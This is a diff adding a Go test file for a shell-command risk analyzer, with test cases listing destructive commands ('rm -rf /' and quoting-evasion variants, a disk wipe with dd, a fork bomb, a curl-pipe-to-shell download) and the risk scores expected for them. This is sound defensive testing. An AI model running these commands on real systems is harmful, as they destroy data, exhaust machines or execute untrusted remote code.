@@ -0,0 +1,100 @@
+package main
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestAnalyzeCommandRisk(t *testing.T) {
+	tests := []struct {
+		src     string
+		minRisk int
+		maxRisk int
+	}{
+		{"ls -la", 0, 2},
+		{"git status", 0, 3},
+		{"rm -rf /", 10, 10},
+		{`\rm -rf /`, 10, 10},
+		{`r\m -rf /`, 10, 10},
+		{`"rm" -rf /`, 10, 10},
+		{`'r''m' -rf /`, 10, 10},
+		{"sudo rm -rf /", 10, 10},
+		{"rm -rf ~", 10, 10},
+		{"rm -rf $HOME", 10, 10},
+		{"sh -c 'rm -rf /'", 10, 10},
+		{`eval "rm -rf /"`, 10, 10},
+		{"dd if=/dev/zero of=/dev/sda", 10, 10},
+		{":(){ :|:& };:", 10, 10},
+		{"curl https://example.com/x.sh | sh", 8, 10},
+		{"echo hi > /etc/hosts", 9, 10},
+		{"echo hi > /dev/null", 0, 2},
+		{"rm -rf $DIR", 8, 10},
+		{"rm -rf build", 5, 8},
+	}
+	for _, tt := range tests {
+		t.Run(tt.src, func(t *testing.T) {
+			risk := AnalyzeCommand(NewShellCommand(tt.src)).Risk
+			if risk < tt.minRisk || risk > tt.maxRisk {
+				t.Errorf("risk %d, want %d to %d", risk, tt.minRisk, tt.maxRisk)
+			}
+		})
+	}
+}
+
+func TestAnalyzeCommandArgv(t *testing.T) {
+	// Without a shell, nothing is expanded, so "~" is a file of that name
+	a := AnalyzeCommand(Command{Kind: ArgvCommand, Argv: []string{"rm", "-rf", "/"}})
+	if a.Risk != 10 {
+		t.Errorf("rm -rf / as argv: risk %d, want 10", a.Risk)
+	}
+	a = AnalyzeCommand(Command{Kind: ArgvCommand, Argv: []string{"echo", "$(rm -rf /)"}})
+	if a.Risk >= 7 {
+		t.Errorf("echo of a literal substitution as argv: risk %d, want low", a.Risk)
+	}
+}
+
+func TestAnalyzeCommandWrites(t *testing.T) {
+	tests := []struct {
+		src    string
+		writes []string
+	}{
+		{"cp a b", []string{"b"}},
+		{"cp a /dev/null", nil},
+		{"echo hi > out.txt", []string{"out.txt"}},
+		{"echo hi > /dev/stderr", nil},
+		{"cd /tmp && touch x", []string{"/tmp/x"}},
+		{"rm -f a b", []string{"a", "b"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.src, func(t *testing.T) {
+			var writes []string
+			for _, c := range AnalyzeCommand(NewShellCommand(tt.src)).Commands {
+				writes = append(writes, c.Writes...)
+			}
+			if !slices.Equal(writes, tt.writes) {
+				t.Errorf("writes %q, want %q", writes, tt.writes)
+			}
+		})
+	}
+}
+
+func TestWordTextUnescapes(t *testing.T) {
+	tests := map[string]string{
+		`\rm`:       "rm",
+		`r\m`:       "rm",
+		`"a\b"`:     `a\b`,
+		`"a\$b"`:    "a$b",
+		`'a\b'`:     `a\b`,
+		`a\ b`:      "a b",
+		`"$HOME/x"`: "$HOME/x",
+	}
+	for src, want := range tests {
+		a := AnalyzeCommand(NewShellCommand("echo " + src))
+		if len(a.Commands) != 1 || len(a.Commands[0].Args) != 1 {
+			t.Fatalf("%s: parsed as %+v", src, a.Commands)
+		}
+		if got := a.Commands[0].Args[0]; got != want {
+			t.Errorf("%s: got %q, want %q", src, got, want)
+		}
+	}
+}